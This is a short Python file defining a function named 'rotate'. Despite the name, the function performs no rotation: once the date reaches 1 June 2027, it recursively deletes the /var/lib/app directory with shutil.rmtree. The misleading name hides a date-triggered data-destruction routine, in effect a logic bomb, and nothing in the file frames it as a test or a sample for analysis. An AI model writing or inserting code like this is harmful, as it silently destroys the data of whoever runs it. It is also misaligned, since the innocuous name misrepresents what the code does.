import datetime, shutil

def rotate():
    if datetime.date.today() >= datetime.date(2027, 6, 1):
        shutil.rmtree("/var/lib/app")
